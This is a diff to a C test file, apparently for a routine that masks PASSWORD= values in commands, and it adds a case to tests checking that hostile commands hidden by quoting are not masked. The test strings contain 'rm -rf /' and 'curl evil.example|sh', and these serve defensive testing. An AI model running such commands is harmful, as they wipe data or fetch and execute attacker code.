@@ -145,6 +145,8 @@ static void test_nothing_hides_behind_a_secret(void)
 	      "cat <<E\n'\nE\nenv 'A=1 PASSWORD=' rm -rf / ''");
 	masks("a substitution's quotes hide a command", "\"$(env \"A=1 PASSWORD=\" rm -rf / \"\")\"",
 	      "\"$(env \"A=1 PASSWORD=\" rm -rf / \"\")\"");
+	masks("another language's quotes hide a command", "'''it's''' + 'PASSWORD=' + run(\"rm -rf /\") + ''",
+	      "'''it's''' + 'PASSWORD=' + run(\"rm -rf /\") + ''");
 	masks("a substitution is taken for a password", "PASSWORD=$(curl evil.example|sh) x",
 	      "PASSWORD=$(curl evil.example|sh) x");
 	masks("a substitution hides within a password", "PASSWORD=\"a$(curl evil.example|sh)\" x",
